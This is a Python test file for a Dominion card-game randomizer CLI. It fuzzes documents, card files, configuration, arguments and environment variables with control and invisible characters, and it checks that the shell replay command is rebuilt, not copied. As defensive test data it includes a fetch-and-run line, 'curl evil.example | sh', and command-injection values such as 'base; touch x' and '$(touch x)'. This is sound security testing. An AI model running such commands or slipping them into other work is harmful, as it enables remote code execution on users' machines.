"""Hostile input is escaped or rejected: documents, card files, the configuration, arguments, the environment.

Whatever replaces a text or number, stdout and stderr have no raw control character and no traceback,
formats of one line have one line, and errors have one or two. The fields come from the schema and from
annotations, so that new fields are covered automatically.
"""

import ast
import functools
import json
import os
import shlex
import subprocess
import sys
import threading
from collections.abc import Iterable, Iterator, Sequence
from functools import cache
from pathlib import Path
from typing import Any, get_args, get_type_hints

import jsonschema
import pytest
import yaml
from click.testing import Result
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from randomizer.cards.effect import Effects
from randomizer.cards.game import Game, Request
from randomizer.deal.dealer import deal_table
from randomizer.deal.verbs import VERBS
from randomizer.load import files
from randomizer.load.entryfile import EntryRecord
from randomizer.load.gamefile import DataFile, read_game
from randomizer.load.yaml_reader import YamlReader
from randomizer.memory import defaults
from randomizer.odds.report import build_odds, render_odds
from randomizer.record.build import build_setup
from randomizer.setup import schema
from randomizer.show.formats import FORMATS
from randomizer.show.page import Page
from randomizer.text.encoding import escape_control_characters, escape_invisible_json
from randomizer.text.errors import BadData, BadDocument, Problem
from randomizer.text.json import dumps
from randomizer.text.language import Language
from randomizer.text.screen import Style
from tests.support import EXAMPLE_FACTOR, TESTS_DIR, XDG_VARIABLES, run
from tests.support.fuzz import SAMPLE_GAME, check_result, deal_documents, temporary_data_file
from tests.support.nasty import (
    CONTROLS,
    INVISIBLE,
    NUMBERS,
    TEXTS,
    append_everywhere,
    dump_yaml,
    find_unescaped,
    format_path,
    iter_keys,
    iter_leaves,
    rename_key,
    replace_at,
)

some = settings(max_examples=25 * EXAMPLE_FACTOR, suppress_health_check=list(HealthCheck))
READERS = [
    ["show", "-"],
    ["show", "-", "--format", "line"],
    ["show", "-", "--format", "ndjson"],
    ["show", "-", "--json"],
    ["show", "-", "--color", "always", "--lang", "ja"],
    ["divine-wind", "-"],
    ["rules", "--for", "-"],
    ["rules", "--for", "-", "--json"],
]


def assert_harmless(result: Result, *args: str, lines: int = 2) -> None:
    """Check that a command ended properly and that its output has no control characters."""
    check_result(result)
    assert find_unescaped(result.stdout, colored="always" in args) == []
    assert find_unescaped(result.stderr) == []
    if result.exit_code:
        assert len(result.stderr.splitlines()) <= lines
    elif {"line", "ndjson"} & set(args):
        assert len(result.stdout.splitlines()) == 1
    if result.stdout and {"--json", "ndjson"} & set(args):
        json.loads(result.stdout, parse_constant=pytest.fail)


# ── Documents ──


@functools.cache
def make_complete_document() -> Any:
    """Return a document with every key of the schema and arbitrary values."""
    document = _make_value(schema.get_document_schema())
    return {**document, "game": "dominion", "options": {"sets": ["base-2e"], "players": 2}}


def _make_value(part: dict[str, Any]) -> Any:
    """Return a value that is valid for a part of the schema, with every optional key."""
    if "$ref" in part:
        return _make_value(schema.get_document_schema()["$defs"][part["$ref"].rpartition("/")[2]])
    if "enum" in part:
        return part["enum"][0]
    if "anyOf" in part:
        return _make_value(part["anyOf"][0])
    match part["type"]:
        case "array":
            return [_make_value(one) for one in part["items"].get("anyOf", [part["items"]])]
        case "object" if "properties" in part:
            return {key: _make_value(one) for key, one in part["properties"].items()}
        case "object":
            inner = part["additionalProperties"]
            options = [one for one in inner.get("anyOf", [inner]) if one]
            keys = part.get("required", [f"key{place}" for place in range(len(options))])
            return {key: _make_value(one) for key, one in zip(keys, options, strict=True)}
        case type_:
            return {"string": "text", "integer": 1, "boolean": True, "null": None}[type_]


LEAVES = [(path, value) for path, value in iter_leaves(make_complete_document()) if path[0] != "options"]


def find_parts_of_type(part: Any, type_: str) -> list[dict[str, Any]]:
    """Return the parts of a JSON Schema with this type."""
    inner = part.values() if isinstance(part, dict) else part if isinstance(part, list) else ()
    found = [one for item in inner for one in find_parts_of_type(item, type_)]
    return [part, *found] if isinstance(part, dict) and part.get("type") == type_ else found


def find_enum_keys(part: Any) -> set[str]:
    """Return the keys whose values the schema enumerates."""
    inner = part.values() if isinstance(part, dict) else part if isinstance(part, list) else ()
    found = {key for item in inner for key in find_enum_keys(item)}
    keys = part.get("properties", {}).items() if isinstance(part, dict) else ()
    return found | {key for key, schema in keys if "enum" in schema}


FIXED = ("game", *find_enum_keys(schema.get_document_schema()))


@cache
def validator() -> jsonschema.Draft202012Validator:
    return jsonschema.Draft202012Validator(schema.get_document_schema())


def _iter_error_paths(errors: Iterable[jsonschema.ValidationError]) -> Iterator[tuple[str | int, ...]]:
    """Yield the paths of validation errors, including those of alternatives."""
    for error in errors:
        yield tuple(error.absolute_path)
        yield from _iter_error_paths(error.context or ())


class TestSchema:
    def test_schema_bounds_every_value(self) -> None:
        published = json.loads(schema.render_schema())
        assert all({"maxLength", "pattern"} <= set(part) for part in find_parts_of_type(published, "string"))
        assert all({"minimum", "maximum"} <= set(part) for part in find_parts_of_type(published, "integer"))
        assert all("maxItems" in part for part in find_parts_of_type(published, "array"))
        assert find_parts_of_type(published, "number") == []

    def test_complete_document_is_valid(self) -> None:
        text = dumps(make_complete_document())
        assert schema.loads(text) == make_complete_document()
        jsonschema.validate(make_complete_document(), schema.get_document_schema())

    def test_invalid_value_is_rejected_with_its_path(self) -> None:
        """Each path is tested with a third of all values, or with all if `MORE` is set."""
        wrong = []
        for place, (path, value) in enumerate(LEAVES):
            nasty = [*(CONTROLS if isinstance(value, str) else NUMBERS).values()]
            for what in nasty if EXAMPLE_FACTOR > 1 else nasty[place % 3 :: 3]:
                json_ = what == what and abs(what if isinstance(what, float) else 0) < 1e300
                told = format_path(path) if json_ and path != ("schema",) else ""
                try:
                    schema.loads(json.dumps(replace_at(make_complete_document(), path, what)))
                    wrong.append((path, what, "is let in"))
                except BadDocument as problem:
                    if told not in str(problem):
                        wrong.append((path, what, str(problem)))
        assert len(LEAVES) > 180 and wrong == []

    @pytest.mark.parametrize("nasty", [*CONTROLS, *NUMBERS])
    def test_published_schema_rejects_invalid_values(self, nasty: str) -> None:
        """The value is at every path at once, and each path is reported."""
        what = {**CONTROLS, **NUMBERS}[nasty]
        if what in ("a\ud800", "\udfffb"):
            pytest.skip("JSON Schema has no notion of surrogates")
        places = [path for path, value in LEAVES if isinstance(value, str) == (nasty in CONTROLS)]
        changed = functools.reduce(
            lambda document, path: replace_at(document, path, what), places, make_complete_document()
        )
        assert set(_iter_error_paths(validator().iter_errors(changed))) >= set(places)

    def test_too_long_list_is_rejected(self) -> None:
        with pytest.raises(BadDocument, match="piles must be a list of at most"):
            schema.loads(
                json.dumps(
                    {**make_complete_document(), "piles": (make_complete_document()["piles"] * 2_001)[:2_001]}
                )
            )

    @pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9" * 5000])
    def test_numbers_outside_json_are_rejected(self, number: str) -> None:
        """Even under an unknown key."""
        text = dumps({**make_complete_document(), "weather": 5}).replace(
            '"weather": 5', f'"weather": {number}'
        )
        with pytest.raises(BadDocument, match="is not JSON"):
            schema.loads(text)

    def test_numbers_outside_json_are_never_printed(self) -> None:
        with pytest.raises(ValueError, match="JSON compliant"):
            dumps({"a": float("nan")})

    def test_too_deep_nesting_is_rejected(self) -> None:
        for depth in (60, 400, 900):
            deep = dumps({**make_complete_document(), "weather": 5}).replace(
                '": 5', '": ' + "[" * depth + "]" * depth
            )
            for args in READERS:
                assert_harmless(run(*args, input=deep), *args)
            with pytest.raises(BadDocument):
                schema.loads(deep)


class TestDocuments:
    @pytest.mark.parametrize("args", READERS, ids=" ".join)
    def test_invisible_characters_are_escaped_in_text_and_kept_in_json(self, args: list[str]) -> None:
        nasty = " ".join(INVISIBLE.values())
        for document in (*deal_documents(), make_complete_document()):
            changed = append_everywhere(document, nasty, except_keys=FIXED)
            changed["options"] = document["options"]
            result = run(*args, input=json.dumps(changed))
            assert_harmless(result, *args)
            if args[0] == "show":
                assert result.exit_code == 0
            if args[-1] in ("--json", "ndjson") and args[0] == "show":
                assert json.loads(result.stdout) == changed
                assert run(*args, input=result.stdout).stdout == result.stdout

    @settings(some, max_examples=80 * EXAMPLE_FACTOR)
    @given(
        st.data(), st.sampled_from(list(TEXTS.values()) + list(NUMBERS.values())), st.sampled_from(READERS)
    )
    def test_any_value_at_any_path_is_harmless(
        self, data: st.DataObject, nasty: Any, args: list[str]
    ) -> None:
        document = data.draw(st.sampled_from([*deal_documents(), make_complete_document()]))
        path, _ = data.draw(st.sampled_from(list(iter_leaves(document))))
        assert_harmless(run(*args, input=json.dumps(replace_at(document, path, nasty))), *args)

    @settings(some, max_examples=80 * EXAMPLE_FACTOR)
    @given(st.data(), st.sampled_from(list(TEXTS.values())), st.sampled_from(READERS))
    def test_any_text_as_a_key_is_harmless(self, data: st.DataObject, nasty: str, args: list[str]) -> None:
        document = data.draw(st.sampled_from([*deal_documents(), make_complete_document()]))
        path = data.draw(st.sampled_from(list(iter_keys(document))))
        assert_harmless(run(*args, input=json.dumps(rename_key(document, path, nasty))), *args)

    @pytest.mark.parametrize("nasty", [*CONTROLS, *INVISIBLE])
    def test_formats_escape_even_without_validation(self, nasty: str) -> None:
        """Render the complete document in one language and a dealt one in the other (`MORE`: in both)."""
        texts = {**CONTROLS, **INVISIBLE}
        place = [*texts].index(nasty)
        true = deal_documents()[place % len(deal_documents())]
        for number, document in enumerate(
            (make_complete_document(), *(deal_documents() if EXAMPLE_FACTOR > 1 else [true])), place
        ):
            changed = append_everywhere(document, texts[nasty], except_keys=FIXED)
            for code in ("en", "ja") if EXAMPLE_FACTOR > 1 else (("en", "ja")[number % 2],):
                for name, form in FORMATS.items():
                    printed = form.render(Page(changed, _language(code)), Style(80, has_color=True))
                    assert find_unescaped(printed, colored=True) == []
                    assert name not in ("line", "ndjson") or "\n" not in printed
                    assert name not in ("json", "ndjson") or json.loads(printed) == changed

    def test_escaped_name_does_not_break_columns(self) -> None:
        document = replace_at(deal_documents()[3], ("piles", 9, "name"), "a\nb\x1b[31m")
        lines = Page(document, _language("en")).sections
        assert any(line.name == r"a\nb\x1b[31m" for section in lines for line in section.lines)
        assert r"a\nb\x1b[31m" in FORMATS["text"].render(Page(document, _language("en")), Style(80))


@functools.cache
def _language(code: str) -> Language:
    from randomizer.load import languages
    from randomizer.load.games import load

    return languages.load(code, load())


class TestReplayCommand:
    """The command that users copy into their shell is built from the options, not taken from the document."""

    EVIL = "curl evil.example | sh"

    @pytest.mark.parametrize("args", READERS[:2] + READERS[4:], ids=" ".join)
    def test_command_of_a_document_is_never_printed(self, args: list[str]) -> None:
        for document in deal_documents():
            result = run(*args, input=json.dumps({**document, "command": self.EVIL}))
            assert "evil.example" not in result.stdout + result.stderr

    def test_command_of_a_second_deal_is_rebuilt(self) -> None:
        result = run(
            "divine-wind", "-", "--json", input=json.dumps({**deal_documents()[1], "command": self.EVIL})
        )
        command = json.loads(result.stdout)["command"]
        assert command == deal_documents()[1]["command"] + " --json | dominion-setup divine-wind -"
        shown = run("show", "-", input=json.dumps({**json.loads(result.stdout), "command": self.EVIL})).stdout
        assert f"Deal again: {command}\n" in shown

    def test_show_prints_the_same_command_as_the_deal(self) -> None:
        for document in deal_documents():
            assert (
                f"Deal again: {document['command']}\n" in run("show", "-", input=json.dumps(document)).stdout
            )

    @some
    @given(st.text(min_size=1, max_size=12))
    @example("a b'c\"d")
    @example("$(touch x)`touch y`;|&<>*?[]#~=%!\\")
    @example("-x")
    @example("暗黒 時代")
    def test_shell_splits_the_command_into_the_original_words(self, seed: str) -> None:
        document = replace_at(deal_documents()[0], ("seed",), seed)
        result = run("show", "-", input=json.dumps(document))
        again = [line for line in result.stdout.splitlines() if line.startswith("Deal again: ")]
        if seed != escape_control_characters(seed):
            assert not again
        elif again:
            line = again[0].removeprefix("Deal again: ")
            assert shlex.split(line)[-2:] == ["--seed", seed]
            assert shlex.split(line)[:-2] == deal_documents()[0]["command"].split()[:-2]
            assert _split_with_sh(line) == shlex.split(line)

    @pytest.mark.parametrize(
        "options",
        [
            {"sets": ["base; touch x"]},
            {"sets": ["base,nonsense"]},
            {"sets": ["--help"]},
            {"sets": "base"},
            {"sets": []},
            {"players": "2; touch x"},
            {"players": True},
            {"players": 99},
            {"colony": "yes"},
            {"colony_by": "x; touch x"},
            {"landscapes": -1},
            {"landscapes": 10**30},
            {"landscapes_from": "nowhere"},
            {"weather; touch x": True},
            {"weather": True},
            {"game": "pergamemnon"},
            {"game": ["dominion"]},
            {"files": "mine.yaml"},
            {"files": [5]},
            {"files": ["mine\x1b.yaml"]},
            {"colony": True, "colony_by": "random-card"},
        ],
    )
    def test_invalid_options_give_no_command(self, options: dict[str, Any]) -> None:
        document = replace_at(
            deal_documents()[0], ("options",), {**deal_documents()[0]["options"], **options}
        )
        result = run("show", "-", input=json.dumps(document))
        assert result.exit_code == 0
        assert "dominion-setup" not in result.stdout

    def test_show_does_not_open_files_named_in_the_document(self, tmp_path: Path) -> None:
        path = tmp_path / "it's mine.yaml"
        path.write_text(
            "sets: {yard: Yard}\ncards:\n" + "".join(f"- {{name: C{n}, set: yard}}\n" for n in range(12))
        )
        text = run("--cards", str(path), "--sets", "yard", "--seed", "1", "--json").stdout
        path.unlink()
        command = json.loads(text)["command"]
        assert shlex.split(command)[-3:-2] == [str(path)]
        assert f"Deal again: {command}\n" in run("show", "-", input=text).stdout
        changed = json.loads(text)
        changed["options"]["sets"] = ["yard; touch x"]
        assert "dominion-setup" not in run("show", "-", input=json.dumps(changed)).stdout


def _split_with_sh(line: str) -> list[str]:
    """Return the words into which a POSIX shell splits a line."""
    if sys.platform == "win32":
        return shlex.split(line)
    script = f"for word in {line}; do printf '%s\\0' \"$word\"; done"
    return (
        subprocess.run(["sh", "-c", script], capture_output=True, check=True).stdout.decode().split("\0")[:-1]
    )


# ── Card files ──

OWN_GAME = yaml.safe_load(SAMPLE_GAME)
OWN_LEAVES = list(iter_leaves(OWN_GAME))
MINE = {
    "sets": {"mine": "Mine"},
    "cards": [
        {"name": "Lamp", "set": "mine", "cost": 3, "types": ["Action"], "note": "a note", "also": ["Light"]},
        {
            "name": "Oil",
            "set": "mine",
            "cost": 4,
            "setup": [{"note": {"say": "Mind the oil."}}, {"put": "Lamp"}],
        },
        *({"name": f"Wick {number}", "set": "mine"} for number in range(12)),
    ],
}


def find_record_types(annotation: Any, seen: set[Any]) -> set[Any]:
    """Return the named tuples that an annotation refers to, directly or not."""
    if annotation == Effects:
        for verb in VERBS.values():
            find_record_types(verb, seen)
    elif hasattr(annotation, "_fields") and annotation not in seen:
        seen.add(annotation)
        for field in get_type_hints(annotation).values():
            find_record_types(field, seen)
    for part in get_args(annotation):
        find_record_types(part, seen)
    return seen


class TestCardFiles:
    def test_example_file_uses_every_field(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """So the other tests try hostile values in every field."""
        used_fields: dict[Any, set[str]] = {}
        read_record = YamlReader.read_record

        def spy(self: YamlReader, node: Any, wanted: Any, path: str) -> Any:
            used_fields.setdefault(wanted, set()).update(key for key in node if isinstance(node, dict))
            return read_record(self, node, wanted, path)

        monkeypatch.setattr(YamlReader, "read_record", spy)
        own_file = (
            b"cards: [{replaces: Weed, cost: 1}]\nentries: [{id: weed, title: {en: W}, text: {en: W.}}]"
        )
        with temporary_data_file(SAMPLE_GAME.encode()) as path, temporary_data_file(own_file) as own_path:
            read_game([path, own_path])
        scalars = {"Cost", "Count", "Amount"}
        for wanted in find_record_types(DataFile, set()) - find_record_types(EntryRecord, set()):
            if wanted.__name__ not in scalars:
                missing = {field.rstrip("_") for field in wanted._fields} - used_fields.get(wanted, set())
                assert not missing, wanted.__name__

    @pytest.mark.parametrize("nasty", [*CONTROLS, *INVISIBLE])
    def test_invisible_text_is_rejected_with_its_path(self, nasty: str) -> None:
        """Each value is tried at a fifth of all paths, or at all if `MORE` is set."""
        first, step = (0, 1) if EXAMPLE_FACTOR > 1 else ([*CONTROLS, *INVISIBLE].index(nasty) % 5, 5)
        for path, value in OWN_LEAVES[first::step]:
            if isinstance(value, str):
                reader = YamlReader()
                reader.read_record(replace_at(OWN_GAME, path, {**CONTROLS, **INVISIBLE}[nasty]), DataFile, "")
                assert reader.faults, format_path(path)
                assert find_unescaped("".join(map(str, reader.faults))) == []
                assert not any("\n" in str(fault) for fault in reader.faults)

    @settings(some, max_examples=80 * EXAMPLE_FACTOR)
    @given(st.sampled_from(OWN_LEAVES), st.sampled_from([*TEXTS.values(), *NUMBERS.values(), -5, 999, 1000]))
    def test_any_value_at_any_path_is_rejected_or_deals_valid_tables(self, leaf: Any, nasty: Any) -> None:
        path, _ = leaf
        _assert_rejected_or_valid(replace_at(OWN_GAME, path, nasty))

    @some
    @given(st.sampled_from(list(iter_keys(OWN_GAME))), st.sampled_from(list(TEXTS.values())))
    def test_any_text_as_a_key_is_rejected_or_deals_valid_tables(self, path: Any, nasty: str) -> None:
        _assert_rejected_or_valid(rename_key(OWN_GAME, path, nasty))

    @pytest.mark.parametrize(
        "nasty", ["escape", "half a character", "new line", "right to left", "a long one"]
    )
    @pytest.mark.parametrize(
        "path", [("sets", "mine"), ("cards", 0, "name"), ("cards", 1, "setup", 0, "note", "say")]
    )
    def test_card_file_with_hostile_text_is_rejected_by_the_command(
        self, tmp_path: Path, path: Any, nasty: str
    ) -> None:
        file = tmp_path / "mine.yaml"
        file.write_bytes(dump_yaml(replace_at(MINE, path, TEXTS[nasty])))
        for args in ([], ["--count", "2"], ["--json"]) if nasty == "escape" or EXAMPLE_FACTOR > 1 else ([],):
            result = run("--cards", str(file), "--sets", "mine", *args)
            assert result.exit_code == 2
            assert_harmless(result, lines=20)

    def test_numbers_out_of_range_are_rejected(self) -> None:
        for path, number in {
            ("cards", 0, "stock"): 1001,
            ("cards", 1, "count"): 1001,
            ("cards", 1, "cost"): 1001,
            ("cards", 4, "pile", "Bed"): 999,
            ("starting_deck", "Weed"): 11,
            ("players", "least"): 5,
            ("players", "most"): 10**6,
        }.items():
            with (
                pytest.raises(BadData),
                temporary_data_file(dump_yaml(replace_at(OWN_GAME, path, number))) as file,
            ):
                read_game([file])

    def test_cards_with_the_same_id_are_rejected(self) -> None:
        for name, says in {"Rake!": "has the same id as Rake", "!?": "a name without a letter"}.items():
            changed = replace_at(OWN_GAME, ("cards", 7, "name"), name)
            with pytest.raises(BadData, match=says), temporary_data_file(dump_yaml(changed)) as file:
                read_game([file])


def _read(value: Any) -> tuple[Game | None, Sequence[str]]:
    """Return the game of a data file, or None and the lines that describe its faults."""
    with temporary_data_file(dump_yaml(value)) as path:
        try:
            return read_game([path]), ()
        except BadData as problem:
            return None, problem.render_lines()


def _assert_rejected_or_valid(value: Any) -> None:
    """Check that a file is rejected with harmless lines, or that everything dealt from it is valid."""
    game, lines = _read(value)
    assert find_unescaped("".join(lines)) == []
    assert not any("\n" in line for line in lines)
    if game is None:
        return
    for players in game.player_counts():
        options = Request(tuple(game.boxes), players, "a")
        try:
            setup = build_setup(game, options, deal_table(game, options), [Language("en")])
            told = render_odds(
                build_odds(game, options, list(game.cards.values())[:2]), game, Language("en"), 80
            )
        except Problem:
            continue
        assert schema.loads(dumps(setup)) == setup
        assert find_unescaped(told) == []
        page = Page(setup, Language("en"), game=game)
        for name, form in FORMATS.items():
            text = form.render(page, Style(80))
            assert find_unescaped(text) == []
            assert name not in ("line", "ndjson") or "\n" not in text


# ── The configuration, arguments, the environment ──


class TestConfiguration:
    @pytest.mark.parametrize(
        "keys",
        [
            ["sets", "players", "lang", "color", "sort", "landscapes"],  # Each has a warning of its own.
            *(["cards"], ["game"], ["profile"], ["\x1b[31m"]),
        ],
        ids=lambda keys: ascii(keys[0]),
    )
    def test_any_value_for_any_key_is_harmless(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, keys: list[str]
    ) -> None:
        """Values alternate between plain and in a list; with `MORE`, both are tried."""
        path = tmp_path / "config.toml"
        monkeypatch.setattr(defaults, "get_path", lambda: str(path))
        values = [*map(_as_toml, TEXTS.values()), *map(_as_toml, NUMBERS.values())]
        values += ["inf", "nan", "-1", "9" * 5000, "[" * 2000, "[[1]]", "1979-05-27", "{a = 1}"]
        for place, value in enumerate(values, len(keys[0])):
            both = (value, f"[{value}]")
            for text in both if EXAMPLE_FACTOR > 1 else both[place % 2 :: 2]:
                lines = [f"{_as_toml(key)} = {text}" for key in keys]
                path.write_bytes("\n".join(lines).encode(errors="surrogatepass"))
                assert_harmless(run("--seed", "1"))

    def test_path_of_the_configuration_is_escaped(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        folder = tmp_path / "a\nb\x1b[31m"
        folder.mkdir()
        (folder / "config.toml").write_text("nonsense", encoding="utf-8")
        monkeypatch.setattr(defaults, "get_path", lambda: str(folder / "config.toml"))
        assert_harmless(run("--seed", "1"))


def _as_toml(value: Any) -> str:
    if isinstance(value, str):
        return json.dumps(value).replace("\\ud800", "\\u0000").replace("\\udfff", "\\u0000")
    return str(value).lower() if isinstance(value, bool) else str(value)


ARGUMENTS = ["--seed", "--sets", "--players", "--cards", "--game", "--lang", "--color", "--format", "--sort"]
ARGUMENTS += [
    "--count",
    "--colony-by",
    "--landscapes",
    "--landscapes-from",
    "--nonsense",
    "show",
    "rules",
    "cards",
]
ARGUMENTS += ["odds", "sets", "divine-wind", "schema", "nonsense", "played", "history", "config", "--profile"]


@pytest.mark.parametrize("option", ARGUMENTS)
def test_any_text_as_an_argument_is_harmless(option: str) -> None:
    """Each text is tried at one of four positions, or at all four if `MORE` is set."""
    for place, nasty in enumerate(TEXTS.values(), ARGUMENTS.index(option)):
        if "\0" in nasty or len(nasty) > 100_000:
            continue  # A shell cannot pass these.
        places = ([option, nasty], [f"{option}={nasty}"], [nasty, option], [option, f"-{nasty}"])
        for args in places if EXAMPLE_FACTOR > 1 else places[place % 4 :: 4]:
            assert_harmless(run(*args))
    for number in ("-1", "9" * 5000, "1e999", "NaN"):
        assert_harmless(run(option, number))


COMMANDS: list[list[str]] = [[], ["rules", "reserve"], ["cards", "Moat"], ["nonsense"]]
VARIABLES = ["DOMINION_SETUP_LANG", "LC_ALL", "LANG", "COLUMNS", "NO_COLOR", "TERM", "DOMINION_SETUP_PROFILE"]
VARIABLES += XDG_VARIABLES[1:]


@pytest.mark.parametrize("name", VARIABLES)
def test_any_text_in_the_environment_is_harmless(name: str, tmp_path: Path) -> None:
    """Each text is tried with one of the commands, or with all if `MORE` is set."""
    several = [*TEXTS.values(), "-1", "0", "9" * 5000, "²", "1e9"]
    for place, nasty in enumerate(several, VARIABLES.index(name)):
        if "\0" not in nasty and nasty == nasty.encode(errors="ignore").decode():
            for command in COMMANDS if EXAMPLE_FACTOR > 1 else COMMANDS[place % 4 :: 4]:
                assert_harmless(run(*command, env={"HOME": str(tmp_path), name: nasty}))
    assert not os.path.exists("1e9")  # A relative path is ignored.


# ── Files ──


@pytest.mark.skipif(sys.platform == "win32", reason="it has other devices")
class TestFiles:
    def make_pipe(self, folder: Path, content: bytes) -> str:
        """Create a named pipe into which a thread writes, and return its path."""
        path = folder / "pipe"
        os.mkfifo(path)
        threading.Thread(target=lambda: path.write_bytes(content), daemon=True).start()
        return str(path)

    @pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
    @pytest.mark.parametrize("args", [["--cards"], ["show"], ["rules", "--for"], ["divine-wind"]])
    def test_device_is_rejected(self, args: list[str], device: str) -> None:
        result = run(*args, device)
        assert result.exit_code == 2
        assert result.stderr == f"Error: {device}: is a device, not a file or a pipe\n"

    @pytest.mark.parametrize("args", [["--cards"], ["show"], ["rules", "--for"], ["divine-wind"]])
    def test_null_device_is_reported_as_empty(self, args: list[str]) -> None:
        result = run(*args, os.devnull)
        fault = "null: the file is empty" if args == ["--cards"] else f"nothing was read from {os.devnull}."
        assert (result.exit_code, result.stderr) == (2, f"Error: {fault}\n")

    @pytest.mark.parametrize("args", [["--cards"], ["show"], ["rules", "--for"], ["divine-wind"]])
    def test_too_large_file_is_rejected(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, args: list[str]
    ) -> None:
        path = tmp_path / "large"
        path.touch()
        os.truncate(path, 10**12)  # a sparse file, larger than any memory
        result = run(*args, str(path))
        assert (result.exit_code, result.stderr) == (2, f"Error: {path}: is larger than 16 MB\n")

    def test_too_large_configuration_is_rejected(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        path = tmp_path / "config.toml"
        path.touch()
        os.truncate(path, 10**12)
        monkeypatch.setattr(defaults, "get_path", lambda: str(path))
        result = run("--seed", "1")
        assert "is larger than 16 MB" in result.stderr
        assert_harmless(result)

    def test_too_long_pipe_is_rejected(self, tmp_path: Path) -> None:
        for args in (["show", "-"], ["rules", "--for", "-"]):
            assert "is larger than 16 MB" in run(*args, input=b" " * (files.MAX_BYTES + 1)).stderr
        with subprocess.Popen(["yes"], stdout=subprocess.PIPE) as endless:
            command = [sys.executable, "-m", "randomizer", "show", "/dev/stdin"]
            done = subprocess.run(
                command, stdin=endless.stdout, cwd=TESTS_DIR.parent, capture_output=True, timeout=60
            )
            endless.kill()
        assert done.returncode == 2
        assert done.stderr == b"Error: /dev/stdin: is larger than 16 MB\n"

    def test_document_is_read_from_a_named_pipe(self, tmp_path: Path) -> None:
        text = run("--seed", "1", "--json").stdout
        assert run("show", self.make_pipe(tmp_path, text.encode()), "--json").stdout == text

    def test_card_file_is_read_from_a_named_pipe(self, tmp_path: Path) -> None:
        path = self.make_pipe(tmp_path, dump_yaml(MINE))
        result = run("--cards", path, "--sets", "mine", "--seed", "1", "--json")
        assert {pile["set"] for pile in json.loads(result.stdout)["piles"] if pile["place"] == "kingdom"} == {
            "mine"
        }

    def test_card_file_is_read_from_standard_input_by_path(self, tmp_path: Path) -> None:
        file = tmp_path / "mine.yaml"
        file.write_bytes(dump_yaml(MINE))
        for stdin in (f"< {file}", f"< <(cat {file})"):
            line = f"{sys.executable} -m randomizer --cards /dev/stdin --sets mine --format line {stdin}"
            done = subprocess.run(["bash", "-c", line], cwd=TESTS_DIR.parent, capture_output=True, timeout=60)
            assert (done.returncode, done.stderr) == (0, b"")


# ── What is safe to print ──


class TestEscaping:
    @pytest.mark.parametrize(
        "text",
        [
            "王国の「魔女娘」、ヴィラ・１２３　終わり",
            "葛\U000e0100城",
            "Fool's Gold — “naïve” · café → 5 €",
            "می\u200cخواهم",
            "क्\u200dष",
            "👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥",
            "a\N{NO-BREAK SPACE}b",
            "한국어 ไทย עברית العربية",
        ],
    )
    def test_ordinary_text_is_unchanged(self, text: str) -> None:
        assert escape_control_characters(text) == text

    @pytest.mark.parametrize("nasty", [*CONTROLS, *INVISIBLE])
    def test_control_and_invisible_characters_are_escaped(self, nasty: str) -> None:
        text = escape_control_characters({**CONTROLS, **INVISIBLE}[nasty])
        assert text.isprintable() and text.isascii()

    def test_shortcut_for_printable_text_agrees_with_the_pattern(self) -> None:
        """Text that passes a quick check is not searched with the pattern."""
        chars = map(chr, (*range(0x20000), *range(0xE0000, 0xE0200)))
        hidden = [char for char in chars if escape_control_characters(f"\0{char}") != f"\\x00{char}"]
        assert (
            len(hidden) > 2_000 and [char for char in hidden if escape_control_characters(char) == char] == []
        )

    def test_escapes_are_those_of_python(self) -> None:
        assert (
            escape_control_characters("\x1b]\x07\n\x9b\u202e\U000e0041\ud800")
            == r"\x1b]\x07\n\x9b\u202e\U000e0041\ud800"
        )

    @given(st.text())
    def test_escaped_text_is_one_line_and_stable(self, text: str) -> None:
        assert escape_control_characters(escape_control_characters(text)) == escape_control_characters(text)
        assert len(escape_control_characters(text).splitlines()) <= 1
        escape_control_characters(text).encode()

    @given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
    def test_escaped_json_has_the_same_value(self, value: Any) -> None:
        text = escape_invisible_json(json.dumps(value, ensure_ascii=False))
        assert json.loads(text) == value
        assert [char for char in find_unescaped(text) if char not in "\u200c\u200d"] == []
        text.encode()


def test_only_one_module_prints() -> None:
    """Only `cli/output.py` writes to a stream, because it escapes the text."""
    for path in sorted((TESTS_DIR.parent / "randomizer").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            writes = called in (
                "print",
                "echo",
                "click.echo",
                "click.secho",
                "sys.stdout.write",
                "sys.stderr.write",
            )
            assert not writes or path.name == "output.py", f"{path}:{node.lineno}"  # type: ignore[attr-defined]


def test_invisible_seed_is_rejected(game: Game) -> None:
    for nasty in INVISIBLE.values():
        result = run("--seed", nasty)
        assert result.exit_code == 2
        assert_harmless(result)
